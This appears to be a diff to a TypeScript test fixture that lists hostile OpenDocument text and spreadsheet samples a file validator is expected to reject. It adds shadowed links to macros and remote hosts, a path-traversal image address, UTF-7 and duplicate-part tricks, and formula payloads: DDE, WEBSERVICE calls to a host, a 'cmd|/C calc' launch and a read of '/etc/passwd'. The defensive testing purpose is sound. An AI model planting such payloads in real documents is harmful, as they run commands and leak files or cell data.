@@ -135,6 +135,76 @@ const rows: Row[] = [
     'file_has_references',
     { more: [{ name: 'META-INF/a.xml', content: '<!DOCTYPE a SYSTEM "http://host/a.dtd"><a/>' }] },
   ],
+  [
+    'picture-shadowed',
+    'has two addresses of a picture',
+    'file_has_references',
+    { body: '<draw:image xlink:href="file://host/a.png" z:href="Pictures/a.png" xmlns:z="urn:z"/>' },
+  ],
+  [
+    'link-shadowed',
+    'runs a macro behind a second address',
+    'file_has_references',
+    { body: '<text:a xlink:href="vnd.sun.star.script:a" z:href="http://host/" xmlns:z="urn:z">a</text:a>' },
+  ],
+  [
+    'picture-odd-scheme',
+    'has an address with an odd scheme',
+    'file_has_references',
+    { body: '<draw:image xlink:href="vnd.sun.star.webdav://host/a.png"/>' },
+  ],
+  [
+    'picture-upwards',
+    'leaves its file by a way round',
+    'file_has_references',
+    { body: '<draw:image xlink:href="Pictures/../../a.png"/>' },
+  ],
+  [
+    'control-picture',
+    'fetches the picture of a control',
+    'file_has_references',
+    {
+      body: '<form:image form:image-data="http://host/a.png" xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"/>',
+    },
+  ],
+  [
+    'odt-utf7',
+    'hides its text in UTF-7, behind blanks',
+    'file_malformed',
+    { more: [{ name: 'styles.xml', content: '<?xml version="1.0" encoding  ="UTF-7"?><a/>' }] },
+  ],
+  [
+    'odt-parts-twice',
+    'holds a part twice, in capitals as well',
+    'file_malformed',
+    { more: [{ name: 'Content.xml', content: '<a/>' }] },
+  ],
+]
+
+const CALC = 'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
+const cell = (attribute: string) => `<table:table-cell ${attribute}/>`
+const sheets: [name: string, does: string, body: string][] = [
+  ['formula-ods', 'asks another program', cell(`table:formula='of:=DDE("soffice";"a";"b")'`)],
+  ['formula-ods-spelled', 'spells a function by numbers', cell(`table:formula='of:=&#68;DE("a";"a";"b")'`)],
+  ['formula-ods-blanks', 'has blanks about', cell(`table:formula  =  'of:=WEBSERVICE("http://host")'`)],
+  [
+    'formula-ods-named',
+    'names it in full',
+    cell(`table:formula='of:=COM.MICROSOFT.WEBSERVICE ("http://a")'`),
+  ],
+  ['formula-ods-excel', 'starts a program as Excel does', cell(`table:formula="msoxl:=cmd|'/C calc'!A0"`)],
+  ['formula-ods-file', 'reads a file', cell(`table:formula="of:=['file:///etc/passwd'#$a.A1]"`)],
+  ['formula-ods-link', 'links a macro', cell(`table:formula='of:=HYPERLINK("vnd.sun.star.script:a";"b")'`)],
+  [
+    'condition-ods',
+    'sends a cell by the condition of a style',
+    `<calcext:condition calcext:value='formula-is(WEBSERVICE("http://host"))' ${CALC}/>`,
+  ],
+  [
+    'name-ods',
+    'sends a cell by a name',
+    `<table:named-expression table:expression='of:=WEBSERVICE("http://host")'/>`,
+  ],
 ]
 
 export const openDocuments: Hostile[] = [
@@ -145,12 +215,11 @@ export const openDocuments: Hostile[] = [
     type: 'odt' as const,
     make: () => buildOdt(content),
   })),
-  {
-    name: 'formula-ods',
-    does: 'asks another program for its data by a formula',
-    refused: 'file_has_references',
-    type: 'ods',
-    make: () =>
-      buildOdt({ body: `<table:table-cell table:formula='of:=DDE("soffice";"a";"b")'/>` }, 'spreadsheet'),
-  },
+  ...sheets.map(([name, does, body]) => ({
+    name,
+    does,
+    refused: 'file_has_references' as const,
+    type: 'ods' as const,
+    make: () => buildOdt({ body }, 'spreadsheet'),
+  })),
 ]
